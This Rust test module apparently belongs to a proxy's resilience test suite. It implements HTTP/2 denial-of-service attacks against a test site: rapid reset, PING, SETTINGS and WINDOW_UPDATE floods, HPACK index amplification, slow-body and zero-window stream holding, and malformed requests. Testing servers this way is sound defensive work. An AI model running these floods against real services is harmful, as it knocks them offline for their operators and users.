//! Attacks over HTTP/2.

use std::io;
use std::time::Duration;

use tidegate_tests::client::Client;

use crate::frames::{Frames, literal, remembered, request};
use crate::sent::{AttackSent, hold, repeat};
use crate::site::HostileSite;

/// Streams on one connection: the limit that servers announce.
const STREAMS: usize = 100;
const WINDOW: u32 = 65_535;
/// What a client takes of each answer before it stops.
const BEGINNING: u32 = 16 * 1024;
/// Rounds before incoming bytes are read.
const BURST: usize = 200;

/// Requests that can be decoded but are not valid HTTP.
pub(crate) fn malformed(site: &HostileSite, time: Duration) -> AttackSent {
    let client = site.attacker();
    let mut field = request(b"GET", b"/get");
    field.extend(literal(b"x-a", b"a\x01"));
    let mut name = request(b"GET", b"/get");
    name.extend(literal(b"x a", b"a"));
    let requests =
        [request(b"GET", b"/\xff"), request(b"GE T", b"/get"), request(b"GET", b"/get#a"), field, name];
    flood(&client, time, |frames, round| frames.head(&requests[round % requests.len()], true).map(drop))
}

/// Large answers to clients with a window of zero.
pub(crate) fn answers_not_taken(site: &HostileSite, time: Duration) -> AttackSent {
    let client = site.attacker();
    let head = request(b"GET", b"/bytes/1000000");
    hold(70, time, || streams(&client, 0, &head, true)).with_streams(STREAMS)
}

/// Large answers of an HTTP/1 app, of which clients take the beginning only.
pub(crate) fn answers_begun_by_http1(site: &HostileSite, time: Duration) -> AttackSent {
    answers_begun(&site.attacker(), time)
}

/// Large answers of an HTTP/2 app, of which clients take the beginning only.
pub(crate) fn answers_begun_by_http2(site: &HostileSite, time: Duration) -> AttackSent {
    answers_begun(&site.attacker_of_grpc(), time)
}

/// Bodies that are not sent, to an HTTP/1 app, which needs a connection for each.
pub(crate) fn bodies_to_http1(site: &HostileSite, time: Duration) -> AttackSent {
    let client = site.attacker();
    let head = request(b"POST", b"/post");
    hold(150, time, || streams(&client, WINDOW, &head, false)).with_streams(STREAMS)
}

/// Bodies that are not sent, to an HTTP/2 app.
pub(crate) fn bodies_to_http2(site: &HostileSite, time: Duration) -> AttackSent {
    let client = site.attacker_of_grpc();
    let mut head = request(b"POST", b"/a.Service/Call");
    head.extend(literal(b"content-type", b"application/grpc"));
    hold(150, time, || streams(&client, WINDOW, &head, false)).with_streams(STREAMS)
}

/// A large field that is sent once and then repeated by index, in one byte each, fifteen times per request.
pub(crate) fn fields_by_index(site: &HostileSite, time: Duration) -> AttackSent {
    let client = site.attacker();
    let mut first = request(b"GET", b"/get");
    first.extend(remembered(b"x-large", &[b'x'; 3900]));
    let mut again = request(b"GET", b"/get");
    // The first entry of the dynamic table.
    again.extend([0x80 | 62; 15]);
    flood(&client, time, |frames, round| {
        frames.head(if round == 0 { &first } else { &again }, true).map(drop)
    })
}

/// Requests that are reset immediately.
pub(crate) fn rapid_reset(site: &HostileSite, time: Duration) -> AttackSent {
    let head = request(b"GET", b"/get");
    flood(&site.attacker(), time, |frames, _| {
        let stream = frames.head(&head, true)?;
        frames.reset(stream)
    })
}

/// Frames that need no answer and change nothing that is in use.
pub(crate) fn window_updates(site: &HostileSite, time: Duration) -> AttackSent {
    flood(&site.attacker(), time, |frames, _| frames.widen(1))
}

/// Each PING demands an answer (RFC 9113 §6.7).
pub(crate) fn pings(site: &HostileSite, time: Duration) -> AttackSent {
    flood(&site.attacker(), time, |frames, _| frames.ping())
}

/// Each SETTINGS demands an acknowledgement (RFC 9113 §6.5).
pub(crate) fn settings(site: &HostileSite, time: Duration) -> AttackSent {
    flood(&site.attacker(), time, |frames, _| frames.settings())
}

/// Empty frames of a body.
pub(crate) fn empty_data(site: &HostileSite, time: Duration) -> AttackSent {
    let head = request(b"POST", b"/post");
    let mut open = 0;
    flood(&site.attacker(), time, |frames, round| {
        if round == 0 {
            open = frames.head(&head, false)?;
        }
        frames.empty_data(open)
    })
}

/// Streams whose answer of 1 MB has begun and is then held up: the windows have room for the first bytes only.
fn answers_begun(client: &Client, time: Duration) -> AttackSent {
    let head = request(b"GET", b"/bytes/1000000");
    hold(70, time, || {
        let mut frames = Frames::open(client, BEGINNING)?;
        frames.widen(STREAMS as u32 * BEGINNING)?;
        ask(frames, &head, true)
    })
    .with_streams(STREAMS)
}

/// A connection with as many streams as allowed.
fn streams(client: &Client, window: u32, head: &[u8], ends: bool) -> io::Result<(Frames, u64)> {
    ask(Frames::open(client, window)?, head, ends)
}

/// Opens as many streams as a connection allows.
fn ask(mut frames: Frames, head: &[u8], ends: bool) -> io::Result<(Frames, u64)> {
    for _ in 0..STREAMS {
        frames.head(head, ends)?;
    }
    let sent = frames.sent;
    Ok((frames, sent))
}

/// Connections one after another, each used until the server ends it.
fn flood(
    client: &Client,
    time: Duration,
    mut once: impl FnMut(&mut Frames, usize) -> io::Result<()>,
) -> AttackSent {
    let end = std::time::Instant::now() + time;
    let mut requests = 0;
    let bytes = repeat(time, || {
        let mut frames = Frames::open(client, WINDOW)?;
        for round in 0.. {
            let is_over = round % BURST == 0 && (std::time::Instant::now() > end || frames.drain().is_err());
            if is_over || once(&mut frames, round).is_err() {
                break;
            }
        }
        requests += frames.requests();
        Ok(frames.sent)
    });
    AttackSent::new(bytes, 1).with_streams(STREAMS).with_requests(requests)
}
